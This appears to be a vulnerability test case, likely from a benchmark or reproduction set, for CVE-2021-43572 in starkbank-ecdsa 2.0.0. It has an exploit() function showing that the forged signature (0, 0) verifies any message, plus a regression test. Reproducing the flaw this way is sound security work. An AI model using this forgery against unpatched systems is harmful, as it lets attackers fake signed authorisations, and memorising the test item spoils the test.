# /// case
# id = "CVE-2021-43572"
# package = "starkbank-ecdsa"
# vulnerable = "2.0.0"
# fixed = "2.0.1"
# what = "the signature (0, 0) is valid for every message and every key"
# shape = "one class method"
# modules = ["ellipticcurve"]
# ///
"""Neither number of a signature was held against the order of the curve."""

from ellipticcurve.ecdsa import Ecdsa
from ellipticcurve.privateKey import PrivateKey
from ellipticcurve.signature import Signature

OWNER = PrivateKey()


def exploit() -> bool:
    return Ecdsa.verify("pay everything to me", Signature(0, 0), OWNER.publicKey())


def regression() -> None:
    signed = Ecdsa.sign("pay one", OWNER)
    assert Ecdsa.verify("pay one", signed, OWNER.publicKey())
    assert not Ecdsa.verify("pay two", signed, OWNER.publicKey())
